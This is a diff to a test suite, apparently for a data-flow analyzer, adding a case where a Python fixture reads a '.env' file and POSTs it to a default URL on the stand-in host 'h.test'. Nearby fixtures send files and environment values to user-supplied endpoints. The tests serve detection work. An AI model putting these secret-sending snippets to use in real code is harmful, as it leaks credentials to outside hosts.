@@ -133,6 +133,13 @@ describe('what is sent, where in the request, to whom', () => {
     const result = py('import sys, requests\nrequests.post(sys.argv[1], data=open("report.txt").read())');
     expect(flow(result, { from: ['file'], destination: 'user-supplied' })).toBeDefined();
   });
+  it('a place written in as the default of an option is where it leads when nobody says otherwise', () => {
+    const result = py(
+      'import argparse, requests\np = argparse.ArgumentParser()\np.add_argument("-e", "--env-file", default=".env")\np.add_argument("--to", default="https://h.test/x")\np.add_argument("--mode", default="plain")\na = p.parse_args()\nrequests.post(a.to, data=open(a.env_file).read())\nrequests.post(a.mode, data=open("n").read())',
+    );
+    expect(flow(result, { from: ['argument', 'content:dotenv'], host: 'h.test' })).toBeDefined();
+    expect(flow(result, { from: ['file'], destination: 'user-supplied' })).toBeDefined();
+  });
   it('what travels in the headers of a request says nothing of where it goes', () => {
     const result = py(
       'import json, os, socket, sys, urllib.request\nc = json.load(open(sys.argv[1]))\nr = urllib.request.Request(c["endpoint"], data=socket.gethostname(), headers={"A": os.environ.get(c["name"])})\nurllib.request.urlopen(r)',
